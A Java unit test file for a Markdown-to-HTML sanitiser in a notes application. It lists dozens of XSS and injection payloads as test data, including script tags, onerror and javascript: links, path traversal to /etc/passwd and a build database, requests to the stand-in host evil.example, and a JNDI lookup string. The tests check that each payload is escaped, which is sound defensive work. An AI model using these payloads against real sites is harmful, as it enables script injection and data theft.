package weekwright.notes;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import weekwright.build.Project.Quotes;
import weekwright.testkit.Requirement;

class MarkdownTest {
    /** Tags that may come out, with the attributes that each may have. */
    private static final Pattern ALLOWED =
            Pattern.compile("</?(p|em|strong|del|ul|li|blockquote|pre|code|table|thead|tbody|tr|sup|h[2-6]|hr /|br"
                    + " /)>|</(ol|th|td|a|span|div|section)>|<(ol|th|td|a|span|div|section|sup|li)("
                    + " (id|class|start|align|href|rel)=\"[^\"<>]*\")*>|<img("
                    + " (id|class|start|href|rel)=\"[^\"<>]*\")*>|<img("
                    + " (src=\"/photos/[\\p{L}\\p{Nd}_.-]+\"|alt=\"[^\"<>]*\"))+ />");

    private static final Pattern HREF = Pattern.compile("href=\"((?!https?://|mailto:|/[^/]|/\"|#)[^\"]*)\"");

    /** Attacks in the manner of the OWASP filter evasion list and of CVE reports on Markdown filters; written anew. */
    static List<String> attacks() {
        return List.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<img src=x onerror=alert(1)>",
                "<svg/onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<body onload=alert(1)>",
                "<style>*{background:url(//evil.example)}</style>",
                "<link rel=stylesheet href=//evil.example>",
                "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
                "<base href=//evil.example>",
                "<form action=//evil.example><input name=csrf></form>",
                "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
                "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
                "<p style=\"position:fixed;inset:0\">over all</p>",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](&#106;avascript:alert(1))",
                "[x](&#x6A;avascript&colon;alert(1))",
                "[x](java&Tab;script:alert(1))",
                "[x](java&NewLine;script:alert(1))",
                "[x]( javascript:alert(1))",
                "[x](vbscript:msgbox(1))",
                "[x](data:text/html;base64,PHNjcmlwdD4=)",
                "[x](//evil.example/a)",
                "[x](\\\\evil.example\\a)",
                "[x](/\\evil.example)",
                "[x](/\t/evil.example)",
                "[x](file:///etc/passwd)",
                "[<img src=x onerror=alert(1)>](task:weir.9)",
                "[x](task:\"onmouseover=alert(1))",
                "[x](TASK:javascript:alert(1))",
                "[x](<task:weir.1\" onclick=\"alert(1)>)",
                "[x](ftp://evil.example)",
                "[x](https://a.example\" onmouseover=\"alert(1))",
                "[x](<javascript:alert(1)>)",
                "<javascript:alert(1)>",
                "[x][1]\n\n[1]: javascript:alert(1)",
                "![x](https://evil.example/pixel.png)",
                "![x](//evil.example/pixel.png)",
                "![x](javascript:alert(1))",
                "![x](data:image/svg+xml,<svg onload=alert(1)>)",
                "![x\" onerror=\"alert(1)](photos/a.jpg)",
                "![x](/photos/../build.db)",
                "![x](/photos/%2e%2e/build.db)",
                "![x](/photos/a.jpg?x=<script>)",
                "![x](photos/..)",
                "[^1]\n\n[^1]: <script>alert(1)</script>",
                "[^\"><img src=x onerror=alert(1)>]\n\n[^\"><img src=x onerror=alert(1)>]: y",
                "| a |\n| - |\n| <script>alert(1)</script> |",
                "- [ ] <b onclick=alert(1)>x</b>",
                "~~<img src=x onerror=alert(1)>~~",
                "`</code><script>alert(1)</script>`",
                "```\"><script>alert(1)</script>\nx\n```",
                "# <script>alert(1)</script> {onclick=alert(1)}",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
                "<a\u00a0href=javascript:alert(1)>x</a>",
                "<<script>script>alert(1)<</script>/script>",
                "<span class=\"tick done\" id=\"main\">x</span>",
                "{{ page.form.csrf }} {% include \"layout\" %} ${jndi:ldap://evil.example/a}");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    @Requirement({"1.3.1", "1.3.5"})
    void an_attack_comes_out_as_text(String attack) {
        for (Quotes quotes : Quotes.values()) {
            comesOutAsText(Markdown.html(attack, NoteLinks.NONE, quotes));
        }
    }

    private static void comesOutAsText(String html) {
        // the sanitiser parts "{{" by an empty comment, so that no template engine takes it up
        String rest = ALLOWED.matcher(html.replace("{<!-- -->{", "{{")).replaceAll("");
        assertThat(rest).as(html).doesNotContain("<").doesNotContain(">");
        assertThat(HREF.matcher(html).find()).as(html).isFalse();
        assertThat(html.toLowerCase(Locale.ROOT)).as(html).doesNotContain("src=\"http");
    }

    @Test
    void the_corpus_has_at_least_25_lines() {
        assertThat(attacks()).hasSizeGreaterThan(25).doesNotHaveDuplicates();
    }

    @Test
    void html_is_shown_as_it_was_typed() {
        assertThat(Markdown.html("<b>5 < 6</b>")).isEqualTo("<p>&lt;b&gt;5 &lt; 6&lt;/b&gt;</p>\n");
        assertThat(Markdown.html("{{ page.form.csrf }}")).isEqualTo("<p>{<!-- -->{ page.form.csrf }}</p>\n");
    }

    @Test
    void headings_begin_under_the_page_s_own() {
        assertThat(Markdown.html("# Mortises\n\n## Grain\n\n###### Last"))
                .isEqualTo("<h2>Mortises</h2>\n<h3>Grain</h3>\n<h6>Last</h6>\n");
    }

    /** Meaning of the marks as in the GFM specification 0.29 (from memory); blanks between tags are not compared. */
    @Test
    void tables_struck_out_text_and_lists_come_out_as_their_specifications_say() {
        assertThat(Markdown.html("| foo | bar |\n| --- | --: |\n| baz | bim |"))
                .isEqualTo("<table><thead><tr><th>foo</th><th class=\"to-right\">bar</th></tr></thead><tbody>"
                        + "<tr><td>baz</td><td class=\"to-right\">bim</td></tr></tbody></table>\n");
        assertThat(Markdown.html("~~Hi~~ Hello")).isEqualTo("<p><del>Hi</del> Hello</p>\n");
        assertThat(Markdown.html("3. a\n4. b")).isEqualTo("<ol start=\"3\"><li>a</li><li>b</li></ol>\n");
    }

    /** As UAX #14 and the house styles of each language have them (from memory). */
    @Test
    void quotation_marks_are_set_as_the_project_has_chosen() {
        String text =
                "She said \"the 'old' race\", didn't she? `\"code\"` \\\"as typed\\\" 6\" [\"in\"](https://a.example)";
        String code = " <code>&#34;code&#34;</code> &#34;as typed&#34; 6&#34; ";
        String link = "<a href=\"https://a.example\" rel=\"nofollow noopener\">%sin%s</a></p>\n";
        assertThat(Markdown.html(text, NoteLinks.NONE, Quotes.AS_TYPED))
                .isEqualTo("<p>She said &#34;the &#39;old&#39; race&#34;, didn&#39;t she?" + code
                        + link.formatted("&#34;", "&#34;"));
        assertThat(Markdown.html(text, NoteLinks.NONE, Quotes.ENGLISH))
                .isEqualTo("<p>She said “the ‘old’ race”, didn’t she?" + code + link.formatted("“", "”"));
        assertThat(Markdown.html(text, NoteLinks.NONE, Quotes.GERMAN))
                .isEqualTo("<p>She said „the ‚old‘ race“, didn’t she?" + code + link.formatted("„", "“"));
        assertThat(Markdown.html(text, NoteLinks.NONE, Quotes.FRENCH))
                .isEqualTo("<p>She said «\u00a0the ‹\u00a0old\u00a0› race\u00a0», didn’t she?" + code
                        + link.formatted("«\u00a0", "\u00a0»"));
        assertThat(Markdown.html(text, NoteLinks.NONE, Quotes.SWISS))
                .isEqualTo("<p>She said «the ‹old› race», didn’t she?" + code + link.formatted("«", "»"));
    }

    @Test
    void the_first_words_have_the_quotation_marks_of_the_page() {
        assertThat(Markdown.opening("The \"old 'race'\" isn't *dry*, \"says\" she", 24, NoteLinks.NONE, Quotes.GERMAN))
                .isEqualTo("The „old ‚race‘“ isn’t …");
    }

    @Test
    void a_task_list_says_what_is_done_in_words() {
        assertThat(Markdown.html("- [x] hoops\n- [ ] wedges"))
                .isEqualTo("<ul><li><span class=\"tick done\">done:</span> hoops</li>"
                        + "<li><span class=\"tick open\">to do:</span> wedges</li></ul>\n");
    }

    @Test
    void a_footnote_is_tied_both_ways() {
        assertThat(Markdown.html("Oak[^1].\n\n[^1]: Felled in 2024."))
                .contains("<sup id=\"fnref-1\"><a class=\"footnote-ref\" href=\"#fn-1\"")
                .contains("<li id=\"fn-1\">")
                .contains("href=\"#fnref-1\"");
    }

    @Test
    @Requirement({"1.2.2"})
    void links_go_to_the_web_to_mail_and_to_this_server_and_pictures_come_from_the_project() {
        assertThat(Markdown.html("[a](https://mill.example/x?y=1) [b](mailto:ilse@mill.example) [c](/notes/n1)"))
                .isEqualTo("<p><a href=\"https://mill.example/x?y&#61;1\" rel=\"nofollow noopener\">a</a>"
                        + " <a href=\"mailto:ilse&#64;mill.example\" rel=\"nofollow noopener\">b</a>"
                        + " <a href=\"/notes/n1\" rel=\"nofollow noopener\">c</a></p>\n");
        assertThat(Markdown.html("![The pit](photos/pit-1.jpg)"))
                .isEqualTo("<p><img src=\"/photos/pit-1.jpg\" alt=\"The pit\" /></p>\n");
    }

    @Test
    void a_text_made_to_keep_the_parser_busy_is_shown_as_typed() {
        for (String mark : List.of("*", "[", "]", "`", "> ", "![", "- ", "_a_[")) {
            String text = mark.repeat(25_000);
            assertThat(Markdown.html(text).replace("&gt;", ">").strip())
                    .as(mark)
                    .isEqualTo("<pre>" + text + "</pre>");
        }
    }

    @Test
    void an_opening_is_cut_after_a_word_and_has_no_marks() {
        assertThat(Markdown.opening("# Grain\n\nRuns *out* to the [north](/x), so pare that cheek last.", 30))
                .isEqualTo("Grain Runs out to the north, …");
        assertThat(Markdown.opening("short", 30)).isEqualTo("short");
    }

    private static final NoteLinks LINKS = (kind, id) -> switch (kind + " " + id.folded()) {
        case "TASK weir.2" -> Optional.of(new NoteLinks.Target("Set <the> *sill*", "/build/tasks/weir.2"));
        case "STAGE weir" -> Optional.of(new NoteLinks.Target("Weir", ""));
        default -> Optional.empty();
    };

    @Test
    void a_reference_shows_the_name_of_today_and_leads_to_the_thing() {
        assertThat(Markdown.html("See [the sill](task:Weir.2), *[](task:weir.2)*.", LINKS, Quotes.AS_TYPED))
                .isEqualTo(
                        "<p>See <a href=\"/build/tasks/weir.2\" rel=\"nofollow noopener\">Set &lt;the&gt; *sill*</a>,"
                                + " <em><a href=\"/build/tasks/weir.2\" rel=\"nofollow noopener\">Set &lt;the&gt;"
                                + " *sill*</a></em>.</p>\n");
    }

    @Test
    void a_reference_without_an_address_is_the_name_alone() {
        assertThat(Markdown.html("At [it](stage:weir).", LINKS, Quotes.AS_TYPED))
                .isEqualTo("<p>At Weir.</p>\n");
    }

    @Test
    void a_reference_to_what_is_gone_shows_its_words_and_says_so() {
        assertThat(Markdown.html("See [the old *sill*](task:weir.9) and [](episode:ep.7).", LINKS, Quotes.AS_TYPED))
                .isEqualTo("<p>See the old *sill* (no longer there) and episode ep.7 (no longer there).</p>\n");
    }

    @Test
    void the_first_words_name_references_as_today() {
        assertThat(Markdown.opening("At [it](stage:weir) and [the oak](material:m.1).", 90, LINKS, Quotes.AS_TYPED))
                .isEqualTo("At Weir and the oak (no longer there).");
    }

    /** Found by the fuzzer: the parser's stack overflowed. */
    @Test
    void comments_opened_in_comments_are_shown_as_they_were_typed() {
        String text = "<b oncli" + "<!--".repeat(2_000) + "-->";
        assertThat(Markdown.html(text))
                .isEqualTo("<pre>" + text.replace("<", "&lt;").replace(">", "&gt;") + "</pre>");
        assertThat(Markdown.pictures("![a](b.jpg)" + text)).isEmpty();
    }

    /** Found by the fuzzer: the parser's stack overflowed, at a depth that depends on the machine. */
    @Test
    void a_text_that_goes_deeper_than_the_parser_can_is_shown_as_it_was_typed() throws Exception {
        Markdown.html("![a](photos/a.png)");
        String text = "![A sill](photos/a.png) <b oncl" + "word ".repeat(12_000) + ">";
        String[] html = new String[1];
        List<?>[] pictures = new List<?>[1];
        Thread small = new Thread(
                null,
                () -> {
                    html[0] = Markdown.html(text);
                    pictures[0] = Markdown.pictures(text);
                },
                "small",
                256 * 1024);
        small.start();
        small.join();
        assertThat(html[0]).isEqualTo("<pre>" + text.replace("<", "&lt;").replace(">", "&gt;") + "</pre>");
        assertThat(pictures[0]).isEmpty();
    }
}
